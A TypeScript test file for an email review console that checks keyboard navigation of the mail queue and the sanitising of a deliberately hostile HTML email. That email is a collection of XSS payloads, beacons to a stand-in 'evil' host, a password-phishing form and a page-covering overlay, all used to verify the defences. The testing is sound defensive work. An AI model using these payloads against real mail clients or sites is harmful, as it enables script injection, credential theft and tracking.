import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test } from 'node:test';
import { posting } from '../kit/app.ts';
import { aCompanyWithJobs, logIn, openPages, violations } from '../kit/console.ts';

const WORK_ORDER = (number: string) => ({
  email_from: 'desk@unheard.example',
  email_subject: `Work order ${number}`,
  email_html: `<p>Work order number: ${number}</p><p>Description: No heating upstairs</p>`,
});

test('the queue stands beside the open mail, and is gone through by keys', async (t) => {
  const { kit, company, home } = await aCompanyWithJobs(t);
  const post = posting(kit, company);
  for (const number of ['7000001', '7000002', '7000003'])
    await post('/ingest/email/portal', WORK_ORDER(number));
  const { page, complaints } = await openPages(t, home);
  await logIn(page, home, company.admin.email);
  await page.goto(`${home}/console/review`);
  await page.getByRole('link', { name: '7000002' }).click();
  const queue = page.getByRole('navigation', { name: 'Mails to decide' });
  await queue.getByText('3 mails to decide').waitFor();
  const current = queue.locator('[aria-current=page]');
  await current.getByText('7000002').waitFor();
  assert.deepEqual(await violations(page), []);
  await page.keyboard.press('j');
  await page.keyboard.press('j');
  const focused = await page.evaluate('document.activeElement.textContent');
  await page.keyboard.press('Enter');
  const [number = ''] = /7\d{6}/.exec(String(focused)) ?? [];
  await page.getByRole('heading', { level: 1, name: number }).waitFor();
  await current.getByText(number).waitFor();
  await page.keyboard.press('x');
  await queue.getByText('2 mails to decide').waitFor();
  assert.equal(await queue.getByText(number).count(), 0);
  assert.deepEqual(complaints, []);
});

test('a hostile mail runs nothing, asks for nothing and stays in its frame', async (t) => {
  const { kit, company, home } = await aCompanyWithJobs(t);
  const asked: string[] = [];
  const stranger = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end();
  });
  t.after(() => stranger.close());
  await new Promise<void>((done) => stranger.listen(0, '127.0.0.1', done));
  const evil = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
  const mail = await posting(kit, company)('/ingest/email/portal', {
    email_from: 'desk@unheard.example',
    email_subject: 'Work order 7000001 <script>top.taken = 1</script>',
    email_html: hostileMail(evil),
  });
  const { page, complaints } = await openPages(t, home);
  let dialogs = 0;
  page.on('dialog', (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  await logIn(page, home, company.admin.email);
  await page.goto(`${home}/console/review/${mail.extraction_id}`);
  await page.getByRole('button', { name: 'As sent' }).click();
  const frame = page.frameLocator('iframe');
  await frame.getByText('No heating upstairs').waitFor();
  await frame.getByText('The end of the mail').waitFor({ state: 'attached' });
  await frame.getByText('Press here').click();
  await page.getByRole('button', { name: 'Make the job' }).waitFor();
  await page.waitForLoadState('networkidle');

  const left = `[...document.querySelectorAll('script, form, input, button, iframe, object, embed, base, meta[http-equiv], link, svg')].length`;
  const inside = page.frames().find((one) => one.url().includes('/console/mail/'));
  assert.equal(await inside?.evaluate(left).catch(() => 0), 0);
  assert.deepEqual(asked, []);
  assert.deepEqual(complaints, []);
  assert.equal(dialogs, 0);
  assert.equal(await page.evaluate('globalThis.taken'), undefined);
  assert.match(page.url(), /\/console\/review\//);
  assert.equal(await page.evaluate('document.documentElement.scrollWidth - innerWidth'), 0);
  const { width = 0, height = 0 } = (await page.locator('iframe').boundingBox()) ?? {};
  assert.ok(width > 300 && height > 300, 'the mail covers nothing but its frame');
  assert.deepEqual(await violations(page), []);
  await page.getByRole('button', { name: 'Show them' }).click();
  await page.locator('iframe[src$="?images=true"]').waitFor();
  await frame.getByText('The end of the mail').waitFor({ state: 'attached' });
  assert.deepEqual(asked, [], 'images are loaded over TLS only');
});

/** Everything that a mail can try: scripts, forms, frames, remote images and styles, covering the page, and size. */
function hostileMail(evil: string): string {
  return `<html><head><title>x</title><base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/refresh">
    <link rel="stylesheet" href="${evil}/style.css"><link rel="prefetch" href="${evil}/prefetch">
    <style>@import url(${evil}/import.css); @font-face { font-family: x; src: url(${evil}/font) }
      body { background: url(${evil}/background) } p { font-family: x }</style>
    <script>top.taken = 1; alert(1); fetch('${evil}/fetch')</script><script src="${evil}/script.js"></script></head>
    <body onload="alert(2)" background="${evil}/body">
    <p>Work order number: 7000001</p><p>Description: No heating upstairs</p>
    <a href="javascript:top.taken = 2" onclick="alert(3)">Press here</a>
    <img src="${evil}/open.gif" srcset="${evil}/open2.gif 2x" onerror="alert(4)"><img src="x" onerror="top.taken = 3">
    <picture><source srcset="${evil}/source"><img src="${evil}/picture"></picture>
    <video src="${evil}/video" poster="${evil}/poster" autoplay></video><audio src="${evil}/audio" autoplay></audio>
    <form action="${evil}/form" id="f"><input name="password" autofocus onfocus="alert(5)"><button>Log in</button></form>
    <iframe src="${evil}/frame" srcdoc="<script>top.taken = 4</script>"></iframe>
    <object data="${evil}/object"></object><embed src="${evil}/embed">
    <svg onload="alert(6)"><script>alert(7)</script><image href="${evil}/svg"></image></svg>
    <math><mtext><style><img src=x onerror="alert(8)"></style></mtext></math>
    <div style="position: fixed; inset: 0; z-index: 99999; width: 9000px; background: url(${evil}/cover)">Covered</div>
    ${'<table><tr><td>row</td></tr></table>'.repeat(30_000)}<p>The end of the mail</p></body></html>`;
}
